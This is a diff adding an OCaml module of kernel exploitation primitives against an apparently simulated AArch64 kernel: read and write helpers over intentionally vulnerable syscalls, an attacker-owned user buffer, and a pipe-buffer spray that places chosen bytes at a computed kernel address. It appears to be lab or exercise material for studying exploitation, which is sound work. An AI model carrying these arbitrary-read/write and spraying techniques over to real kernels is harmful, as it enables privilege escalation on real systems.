@@ -1,0 +1,53 @@
+open Aarch64
+module K = Kernel
+
+let outcome_to_result = function
+  | K.System.Ok v -> Result.Ok v
+  | K.System.Killed m -> Result.Error ("killed: " ^ m)
+  | K.System.Panicked m -> Result.Error ("panicked: " ^ m)
+
+let kread sys addr =
+  outcome_to_result (K.System.syscall sys ~nr:K.Kbuild.sys_vuln_read ~args:[ addr ])
+
+let kwrite sys addr value =
+  match
+    outcome_to_result (K.System.syscall sys ~nr:K.Kbuild.sys_vuln_write ~args:[ addr; value ])
+  with
+  | Result.Ok _ -> Result.Ok ()
+  | Result.Error _ as e -> e
+
+(* The attacker's own user-space buffer, used as the source of sprays. *)
+let attacker_buf sys =
+  let base = Int64.add K.Layout.user_data_base 0x3000L in
+  K.Kmem.map_user_region (K.System.cpu sys) ~base:K.Layout.user_data_base ~bytes:0x10000
+    Mmu.rw;
+  base
+
+let ( let* ) = Result.bind
+
+let spray sys ~bytes =
+  let buf = attacker_buf sys in
+  K.Kmem.blit_string (K.System.cpu sys) buf bytes;
+  let pipe_state = K.System.kernel_symbol sys "pipe_state" in
+  let pipe_buf = K.System.kernel_symbol sys "pipe_buf" in
+  let* head = kread sys pipe_state in
+  let dest = Int64.add pipe_buf (Int64.logand head 0xfffL) in
+  let* written =
+    outcome_to_result
+      (K.System.syscall sys ~nr:K.Kbuild.sys_pipe_write
+         ~args:[ buf; Int64.of_int (String.length bytes) ])
+  in
+  if Int64.to_int written <> String.length bytes then Result.Error "short pipe write"
+  else Result.Ok dest
+
+let spray_words sys ~words =
+  let b = Buffer.create (8 * List.length words) in
+  List.iter
+    (fun w ->
+      for byte = 0 to 7 do
+        Buffer.add_char b
+          (Char.chr
+             (Int64.to_int (Int64.logand (Int64.shift_right_logical w (8 * byte)) 0xffL)))
+      done)
+    words;
+  spray sys ~bytes:(Buffer.contents b)
